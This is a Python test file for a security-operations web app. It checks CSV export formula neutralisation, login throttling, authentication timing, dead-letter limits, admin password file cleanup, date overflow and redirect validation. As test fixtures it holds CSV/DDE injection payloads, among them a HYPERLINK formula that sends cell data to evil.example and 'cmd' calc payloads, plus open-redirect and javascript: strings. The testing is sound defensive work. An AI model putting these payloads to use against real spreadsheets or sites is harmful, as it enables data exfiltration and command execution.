"""Issue 18 (web), the findings whose answer belongs to one component: CSV cells, the
login throttle's memory, constant work for disabled accounts, AuthError's status by type,
dead-letter caps and retention, the initial admin password file, date math overflow."""
from __future__ import annotations

import csv
import datetime as _dt
import io

import pytest

from core.protocols import DeadLetter, Detection, QueryError

V1 = "/api/v1"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [c for row in list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:] for c in row]


def test_alert_csv_export_neutralises_formulas_from_log_content(stack, client, hdr):
    rec = stack.state.services.alert_recorder
    rec.emit([Detection(f"csv-{i}", f, "high", [{"@timestamp": "2026-12-02T10:00:00Z", "user": {"name": f},
                                                 "host": {"name": f}}]) for i, f in enumerate(FORMULAS)])
    r = client.get(f"{V1}/alerts/export", params={"format": "csv"}, headers=hdr("auditor"))
    assert r.status_code == 200
    cells = _cells(r.text)
    assert sum(c.startswith("'") for c in cells) >= 3 * len(FORMULAS)  # title, user, host of each
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]


def test_report_csv_neutralises_formulas():
    from core.alerts import Alert, Entities
    from reports.i18n import Translator
    from reports.render_csv import AlertCsvWriter

    buf = io.StringIO()
    w = AlertCsvWriter(buf, Translator("en"))
    a = Alert(id=1, rule_id="r", rule_title=FORMULAS[0], level="high", tags=[], engine="sigma", description="",
              entities=Entities(user=FORMULAS[3], host=FORMULAS[1]), risk_score=-5, status="new", resolution=None,
              assignee=None, first_seen="2026-12-02T10:00:00Z", last_seen="2026-12-02T10:00:00Z", count=1,
              dedupe_key="k", created_at="", updated_at="")
    w.write(a, None)
    cells = _cells(buf.getvalue())
    assert f"'{FORMULAS[0]}" in cells and f"'{FORMULAS[3]}" in cells and f"'{FORMULAS[1]}" in cells
    assert "-5" in cells  # numbers stay numbers


def test_asset_csv_round_trips_through_the_formula_guard():
    from core.assets import dump_csv, load_inventory_text

    text = "id,name,type,center,ips,owner\ncam-1,cam one,camera,operations,10.0.0.1,x\n"
    a = load_inventory_text(text, fmt="csv")[0]
    a.owner = "=cmd|' /C calc'!A0"
    out = dump_csv([a])
    assert "'=cmd" in out
    assert load_inventory_text(out, fmt="csv")[0].owner == "=cmd|' /C calc'!A0"


def test_login_throttle_memory_is_bounded_and_accounts_are_throttled():
    from core.auth import LoginThrottle

    clock = [1000.0]
    t = LoginThrottle(max_failures=5, window_s=300, clock=lambda: clock[0], account_max_failures=20, max_keys=1000)
    for i in range(50_000):  # a spray of names
        t.failure(f"user{i}", "203.0.113.9")
    assert t.tracked() <= 2 * 1000
    for i in range(20):  # one account from 20 addresses (a botnet, or spoofed addresses)
        t.failure("admin", f"198.51.100.{i}")
    assert t.retry_after("admin", "192.0.2.1") > 0  # a 21st address is refused too
    clock[0] += 301
    assert t.retry_after("admin", "192.0.2.1") == 0


def test_disabled_and_unknown_accounts_cost_one_argon2_verify(stack, monkeypatch):
    import core.auth as auth

    users = stack.soc.users
    users.create_user("dora", "analyst", "correct-horse-1")
    users.update_user("dora", disabled=True)
    real = auth._ph()
    calls: list[int] = []

    class Counting:  # the real Argon2 hasher, counting its verifies
        def hash(self, p):
            return real.hash(p)

        def verify(self, h, p):
            calls.append(1)
            return real.verify(h, p)

    monkeypatch.setattr(auth, "_hasher", Counting())
    for name in ("dora", "nobody-at-all"):
        calls.clear()
        assert users.authenticate(name, "correct-horse-1") is None
        assert len(calls) == 1, name  # the same work as a wrong password for an enabled user


def test_auth_error_status_comes_from_its_type(client, hdr):
    h = hdr("admin")
    assert client.post(f"{V1}/users", json={"name": "eve", "role": "viewer"}, headers=h).status_code in (200, 201)
    r = client.post(f"{V1}/users", json={"name": "eve", "role": "viewer"}, headers=h)
    assert r.status_code == 409
    r = client.patch(f"{V1}/users/ghost", json={"role": "viewer"}, headers=h)
    assert r.status_code == 404
    from core.auth import AccountExists, AuthError

    # The message no longer decides: an AuthError that happens to say "already exists" is a 400.
    assert AuthError("role 'already exists' is unknown").status == 400 and AccountExists("x").status == 409


def test_dead_letters_capped_per_entry_in_total_and_by_age(tmp_path):
    from storage.deadletters import SQLiteDeadLetterStore

    now = [1_000_000.0]
    dl = SQLiteDeadLetterStore(tmp_path / "dl.db", max_entry_bytes=1024, max_total_bytes=1024 * 1024,
                               retention_days=1, clock=lambda: now[0])
    dl.put([DeadLetter(stage="parse", reason="no", raw=b"y" * 5_000_000, source="t")])
    got = dl.list(limit=1)[0]
    assert len(got.raw) == 1024 and got.meta == {"truncated": True, "raw_bytes": 5_000_000}
    for _ in range(3000):  # ~3 MiB at 1 KiB each, against a 1 MiB total
        dl.put([DeadLetter(stage="parse", reason="no", raw=b"z" * 1000, source="t")])
    assert dl.total_bytes() <= 1024 * 1024
    assert dl.count() < 1100 and dl.list(limit=1)[0].raw == b"z" * 1000  # newest kept
    now[0] += 2 * 86400
    dl.prune()
    assert dl.count() == 0
    dl.close()


def test_initial_admin_password_file_goes_when_the_password_changes(tmp_path):
    from citysoc.wiring import ensure_initial_admin, open_soc
    from core.settings import Settings

    settings = Settings(data=tmp_path)
    soc = open_soc(settings)
    printed: list[str] = []
    assert ensure_initial_admin(settings, soc, echo=printed.append)
    f = tmp_path / "initial-admin-password"
    assert f.exists()
    soc.users.update_user("admin", password="a-new-long-password")
    assert not f.exists()
    soc.close()
    # a file left behind (older version) that no longer opens the account goes at start
    f.write_text("stale-password-123\n")
    soc = open_soc(settings)
    assert ensure_initial_admin(settings, soc, echo=printed.append) is None and not f.exists()
    assert len(printed) == 1
    soc.close()


@pytest.mark.parametrize("q", ["@timestamp:[now-9999999999d TO now]", "@timestamp:[now-99999999y TO now]",
                               "@timestamp:>now+99999999999999w"])
def test_date_math_overflow_is_a_query_error(tmp_path, q):
    from storage.sqlite import SQLiteEventStore

    store = SQLiteEventStore(tmp_path / "e.db")
    try:
        with pytest.raises(QueryError) as exc:
            store.search(q, limit=1)
        assert "years 1-9999" in exc.value.message
    finally:
        store.close()


def test_time_bound_overflow_is_a_value_error():
    from api.timeparams import parse_since, parse_time_bound

    with pytest.raises(ValueError, match="too long"):
        parse_since("99999999999999w")
    with pytest.raises(ValueError, match="too far back|too long"):
        parse_time_bound("now-999999999d", now=_dt.datetime(2026, 12, 2, tzinfo=_dt.timezone.utc))


def test_safe_next():
    from api.security import safe_next

    for bad in ["/%09/evil.example", "//evil", "\\\\evil", "/\\evil", "https://evil.example", "/%2F%2Fevil",
                "/\n/evil", "javascript:alert(1)", "/%252f%252fevil", ""]:
        assert safe_next(bad) == "/", bad
    assert safe_next("/alerts/7?x=1#c") == "/alerts/7?x=1#c"
